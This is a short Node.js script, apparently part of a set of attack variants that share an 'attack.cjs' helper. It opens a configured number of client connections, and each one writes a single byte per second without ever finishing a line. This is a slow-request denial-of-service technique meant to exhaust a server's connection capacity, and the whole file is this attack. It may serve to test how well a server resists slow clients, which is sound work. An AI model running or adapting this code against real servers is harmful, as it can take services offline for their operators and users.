// COUNT clients send one byte a second, and never a whole line.
const { begun, count, openAll } = require('./attack.cjs');
openAll(count, (socket) => setInterval(() => socket.write('x'), 1000), begun);
